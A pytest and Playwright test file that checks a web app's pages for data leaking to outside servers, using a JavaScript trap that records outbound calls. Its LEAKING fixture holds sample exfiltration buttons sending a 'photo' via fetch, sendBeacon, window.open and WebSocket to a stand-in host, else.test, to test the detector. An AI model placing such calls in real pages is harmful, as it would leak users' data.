"""What leaves a page is caught, and a picture of the camera goes to the page's own server only.

A link to a paper may be followed: a plain GET to its address, without body, query, cookie or referrer.
"""

from urllib.parse import urlparse

import pytest

from .conftest import Watch, long, until
from .test_access import OPEN, TABS, open_tab

# Calls that can send are recorded, even those that the page's policy stops before playwright sees them.
TRAP = """(() => {
  const calls = window.flCalls = [];
  const trap = (owner, name, kind = name) => {
    const real = owner?.[name];
    if (!real) return;
    owner[name] = new Proxy(real, {
      apply(target, self, args) { calls.push([kind, said(args)]); return Reflect.apply(target, self, args); },
      construct(target, args) { calls.push([kind, said(args)]); return Reflect.construct(target, args); },
    });
  };
  const said = (args) => {
    const to = args.find((each) => typeof each === 'string' && /^([a-z]+:|[.]?[/])/i.test(each)) ?? args[0];
    try { return new URL(to?.url ?? to, location).href; } catch { return String(to); }
  };
  trap(window, 'fetch');
  trap(XMLHttpRequest.prototype, 'open', 'XMLHttpRequest');
  trap(navigator, 'sendBeacon');
  trap(navigator, 'share');
  trap(navigator.clipboard, 'write', 'clipboard');
  for (const name of ['open', 'WebSocket', 'WebTransport', 'EventSource', 'RTCPeerConnection']) {
    trap(window, name);
  }
  addEventListener('submit', ({target}) => calls.push(['form', target.action]), true);
  trap(HTMLFormElement.prototype, 'submit', 'form');
  addEventListener('securitypolicyviolation', (event) =>
    calls.push([event.violatedDirective, event.blockedURI]));
})()"""
NOWHERE = {"share", "clipboard", "RTCPeerConnection", "WebTransport", "form"}  # wherever it would go to
PRESS = """(places) => {  // all at once that were not pressed before; the addresses of links are kept
  const found = [...document.querySelectorAll(places)]
    .flatMap((place) => [...place.querySelectorAll('a[href], button')])
    .filter((each) => each.checkVisibility() && !each.flPressed);
  (window.flPressed ??= []).push(...found.map((each) => each.href).filter(Boolean));
  for (const each of found) { each.flPressed = true; each.click(); }
  return found.length;
}"""
ROUNDS = 5  # what a press has brought is pressed too


class Leaks(Watch):
    """What leaves a page, where it is caught: requests to other servers, and calls that could make some."""

    def __init__(self, context, own):
        self.context, self.own, self.away, self.sockets = context, own, [], []
        context.add_init_script(TRAP)
        context.route(lambda url: not self.is_own(url), self._leave)
        self.page = context.new_page()
        self.page.set_default_timeout(120_000)
        self.page.on("websocket", lambda socket: self.sockets.append(socket.url))
        self.page.on("filechooser", lambda _: None)  # nobody is there to choose
        super().__init__(self.page)

    def is_own(self, url):
        return url.startswith((self.own, "data:", "blob:", "about:"))

    def _leave(self, route):
        request = route.request
        self.away.append(
            (request.method, request.url, request.is_navigation_request(), request.post_data, request.headers)
        )
        route.fulfill(status=204)  # no page comes: the one that is open stays

    def found(self):
        """What left, or tried to, other than by a link that was pressed."""
        calls, pressed = self.page.evaluate("[window.flCalls, window.flPressed ?? []]")
        wrong = [call for call in calls if call[0] in NOWHERE or not self.is_own(call[1])]
        for method, url, moves, body, headers in self.away:
            told = {"referer", "cookie", "origin"} & set(headers)
            if method != "GET" or not moves or body or told or url not in pressed or urlparse(url).query:
                wrong.append((method, url, body, told))
        return wrong + self.sockets


def opened(served, chromium):
    """A page of a browser that grants what it is asked for, and what leaves it."""
    context = chromium.new_context(
        viewport={"width": 1280, "height": 900},
        locale="en-US",
        permissions=["camera", "clipboard-read", "clipboard-write"],
    )
    leaks = Leaks(context, served)
    leaks.page.goto(f"{served}?tab=start&__theme=light")
    return leaks.page, leaks


def test_a_camera_s_picture_goes_to_the_page_s_own_server(served, chromium):
    page, leaks = opened(served, chromium)
    open_tab(page, "compare")
    page.locator("#photo-a").get_by_label("Capture from camera").click()
    page.locator("#photo-a").get_by_text("Click to Access Webcam").click()
    until(page, "document.querySelector('#photo-a video').currentTime > 0")  # before, there is no picture
    with page.expect_request(f"{served}gradio_api/upload**"):
        page.locator("#photo-a").get_by_label("capture photo").click()
    assert leaks.found() == [] and leaks.errors == []
    leaks.context.close()


@long
@pytest.mark.parametrize("tab", TABS)
def test_nothing_leaves_the_page_whatever_is_pressed_in_a_tab(served, chromium, tab):
    page, leaks = opened(served, chromium)
    open_tab(page, tab)
    while page.evaluate(OPEN):
        page.wait_for_timeout(300)  # a section unfolds
    pressed = everything_pressed(page, "#fl-tabs > [role=tabpanel]")
    assert pressed > 3
    assert leaks.found() == [] and leaks.errors == []
    leaks.context.close()


@long
def test_nothing_leaves_the_page_from_its_head_and_foot(served, chromium):
    page, leaks = opened(served, chromium)
    open_tab(page, "compare")
    assert everything_pressed(page, "header, .fl-pipe, [role=tablist], footer") > 20
    assert leaks.found() == []
    closed = [each for each in leaks.errors if "404" in each]  # gradio's API panel asks for two closed routes
    assert len(closed) <= 2 and closed == leaks.errors
    leaks.context.close()


def everything_pressed(page, places):
    """Press what is displayed in some places, and what that brings -> how many buttons and links it was."""
    pressed = 0
    for _ in range(ROUNDS):
        pressed += (new := page.evaluate(PRESS, places))
        page.wait_for_timeout(1500)
        if not new:
            break
    return pressed


LEAKING = """<base href="."><form action="https://else.test/form" target="_blank"><button>form</button></form>
  <a href="https://else.test/paper" target="_blank">paper</a>
  <button onclick="fetch('https://else.test/fetch', {mode: 'no-cors'})">fetch</button>
  <button onclick="navigator.sendBeacon('https://else.test/beacon', 'photo')">beacon</button>
  <button onclick="window.open('https://else.test/open?photo=1')">open</button>
  <button onclick="new Image().src = 'https://else.test/image'">image</button>
  <button onclick="new RTCPeerConnection()">call</button>
  <button onclick="new WebSocket('wss://else.test/socket')">socket</button>"""


def test_what_leaves_a_page_is_caught(chromium):
    """Each button of a page that sends, and a link that says where it was followed, is found."""
    context = chromium.new_context()
    context.route("http://leaking.test/", lambda route: route.fulfill(body=LEAKING, content_type="text/html"))
    leaks = Leaks(context, "http://leaking.test/")
    leaks.page.goto("http://leaking.test/")
    leaks.page.evaluate(PRESS, "body")
    leaks.page.wait_for_timeout(1000)
    found = str(leaks.found())
    missing = [
        name
        for name in ("form", "paper", "fetch", "beacon", "open?", "image", "RTC", "socket")
        if name not in found
    ]
    assert not missing, found
    context.close()
